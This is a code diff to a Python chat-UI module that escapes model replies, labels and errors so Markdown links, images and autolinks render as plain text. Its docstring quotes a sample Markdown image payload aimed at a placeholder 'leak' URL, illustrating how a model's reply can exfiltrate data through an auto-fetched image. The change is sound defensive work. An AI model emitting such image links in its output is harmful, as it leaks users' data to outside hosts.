@@ -1,7 +1,10 @@
 """What the session looks like on screen: chat messages, the annotated image, the raw output.
 
 Everything that reaches the browser as HTML is built here and escaped here: model text and
-labels are data, never markup.
+labels are data, never markup. Escaping HTML is not enough where Markdown is rendered (the chat,
+the counts): ``![x](http://host/leak?…)`` in a reply would become an image the browser fetches
+with no click. :func:`inert` also turns the characters that start Markdown links, images and
+autolinks into character references, which display the same but start nothing.
 """
 
 from __future__ import annotations
@@ -24,6 +27,16 @@ _GROUNDING_SPAN = re.compile(
 _OTHER_TAGS = re.compile(r"<\|/?(?:ref|det|grounding)\|>|<｜end▁of▁sentence｜>")
 
 
+# Markdown's links and images ([, ], (, ), !), autolinks (http:, www., e-mail @), code and diagrams
+# (`), and backslash escapes that could undo the others.
+_MARKDOWN_ACTIVE = str.maketrans({c: f"&#{ord(c)};" for c in "[]()!:@`\\"})
+
+
+def inert(text: str) -> str:
+    """``text`` as HTML that shows exactly these characters: no tag, link, image or autolink."""
+    return html.escape(text).translate(_MARKDOWN_ACTIVE).replace("www.", "www&#46;").replace("WWW.", "WWW&#46;")
+
+
 def answer_html(turn: Turn, session: Session) -> str:
     """The reply with each grounded phrase highlighted in its box colour (text escaped).
 
@@ -37,7 +50,7 @@ def answer_html(turn: Turn, session: Session) -> str:
     cursor = 0
     ref_index = -1
     for match in _GROUNDING_SPAN.finditer(text):
-        pieces.append(html.escape(_OTHER_TAGS.sub("", text[cursor : match.start()])))
+        pieces.append(inert(_OTHER_TAGS.sub("", text[cursor : match.start()])))
         ref_index += 1
         label = match.group(1)
         if label is not None:
@@ -46,14 +59,13 @@ def answer_html(turn: Turn, session: Session) -> str:
             color = session.colors.hex(drawn)
             fill = color if ref_index == selected_ref else f"{color}33"
             pieces.append(
-                f'<mark style="background:{fill};border-bottom:3px solid {color};padding:0 2px">'
-                f"{html.escape(label)}</mark>"
+                f'<mark style="background:{fill};border-bottom:3px solid {color};padding:0 2px">{inert(label)}</mark>'
             )
         cursor = match.end()
     tail = text[cursor:]
     # An unfinished tag at the end of a streaming reply is hidden until it closes.
     tail = re.sub(r"<\|(?:ref|det)\|>.*$", "", tail, flags=re.DOTALL)
-    pieces.append(html.escape(_OTHER_TAGS.sub("", tail)))
+    pieces.append(inert(_OTHER_TAGS.sub("", tail)))
     body = "".join(pieces).strip()
     notes = []
     if turn.boxes:
@@ -63,7 +75,7 @@ def answer_html(turn: Turn, session: Session) -> str:
     if turn.stopped:
         notes.append("stopped")
     if turn.error:
-        notes.append(html.escape(turn.error))
+        notes.append(inert(turn.error))
     if notes:
         body += f'\n\n<span style="opacity:.7;font-size:.9em">[{" · ".join(notes)}]</span>'
     return body or "…"
@@ -76,7 +88,7 @@ def chat_messages(session: Session, image_paths: dict[str, str]) -> list[dict]:
         for key in turn.image_keys:
             if key in image_paths:
                 messages.append({"role": "user", "content": {"path": image_paths[key]}})
-        messages.append({"role": "user", "content": html.escape(turn.user_text) or "…"})
+        messages.append({"role": "user", "content": inert(turn.user_text) or "…"})
         messages.append({"role": "assistant", "content": answer_html(turn, session)})
     return messages
 
@@ -119,6 +131,14 @@ def save_atomically(image: Image.Image, path: Path) -> None:
     os.replace(staging, path)
 
 
+def prune_views(folder: Path, keep: tuple[str | None, ...]) -> None:
+    """Delete the folder's view files other than those of the signatures in ``keep``."""
+    wanted = {f"view-{signature}.png" for signature in keep if signature}
+    for path in folder.glob("view-*.png"):
+        if path.name not in wanted:
+            path.unlink(missing_ok=True)
+
+
 def annotated_view_file(session: Session, key: str | None, out_dir: Path) -> str | None:
     """The annotated view as a PNG under a content-derived name.
 
@@ -158,7 +178,7 @@ def label_summary(session: Session) -> str:
     counts = session.label_counts()
     if not counts:
         return "No boxes yet — use Find, Grounded answer, or click the image."
-    return " · ".join(f"{count} × {html.escape(label)}" for label, count in counts.items())
+    return " · ".join(f"{count} × {inert(label)}" for label, count in counts.items())
 
 
 def raw_output(session: Session) -> str:
